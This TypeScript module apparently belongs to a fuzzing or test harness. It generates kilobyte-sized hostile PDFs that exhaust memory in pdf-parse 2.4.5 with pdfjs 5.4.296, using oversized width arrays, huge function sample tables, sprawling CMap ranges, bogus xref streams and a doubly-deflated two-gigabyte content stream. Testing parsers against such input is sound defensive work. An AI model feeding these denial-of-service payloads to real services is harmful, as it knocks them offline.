import { constants, deflateRawSync, deflateSync } from 'node:zlib';
import type { Random } from '../../random.js';
import { streamObject, tinyPdf } from '../tinyPdf.js';
import type { Maker } from './kind.js';
import { withCMap, withFunction, withWidths, withXrefStream } from './pdfParts.js';

/*
 * PDFs of a kilobyte or so with which pdf-parse 2.4.5 with pdfjs 5.4.296 fills its memory until it is stopped.
 * `npx tsx scripts/prove-hostile.ts` proves it of each.
 */
export const EXPLODING = {
  /** A width for each of two thousand million glyphs. */
  'exploding-widths': (random: Random) =>
    withWidths({ widths: `[${random.below(100)} ${2_147_483_647 + random.below(1000)} 500]` }),

  'exploding-vertical-widths': (random: Random) =>
    withWidths({
      encoding: 'Identity-V',
      vertical: `[${random.below(100)} ${2_147_483_647 + random.below(1000)} -1000 500 880]`,
    }),

  /** A table of a thousand million samples, or more. */
  'exploding-samples': (random: Random) =>
    withFunction(`/BitsPerSample 8 /Size [${1_000_000_000 + random.below(4e8)}]`),

  /** A letter for each of sixteen million codes, many times over. */
  'exploding-letters': (random: Random) => {
    const ranges = Array.from({ length: 40 }, (_, n) => {
      const high = (0x10 + n + random.below(3)).toString(16).padStart(2, '0');
      return `<${high}000000> <${high}ffffff> <0041>\n`;
    });
    return withCMap('ToUnicode', `40 beginbfrange\n${ranges.join('')}endbfrange\n`);
  },

  /** A table of cross-references of a thousand million objects that takes no bytes. */
  'exploding-xref': (random: Random) =>
    withXrefStream(`[${random.below(50)} ${1_000_000_000 + random.below(1e9)}]`),

  /** A page's content, packed twice, of two gigabytes of nothing. */
  'exploding-content': (random: Random) => {
    const packed = deflateSync(packedSpaces(180 + random.below(40)));
    return tinyPdf({
      objects: { 5: streamObject(packed, '/Filter [/FlateDecode /FlateDecode]') },
    });
  },
} as const satisfies Record<string, Maker>;

/** So many times ten million spaces, packed once; made of one block again and again, so that it is made quickly. */
function packedSpaces(times: number): Buffer {
  const spaces = Buffer.alloc(10_000_000, ' ');
  const block = deflateRawSync(spaces, { finishFlush: constants.Z_FULL_FLUSH });
  const last = deflateRawSync(Buffer.from(' '));
  return Buffer.concat([Buffer.from([0x78, 0x9c]), ...Array<Buffer>(times).fill(block), last]);
}
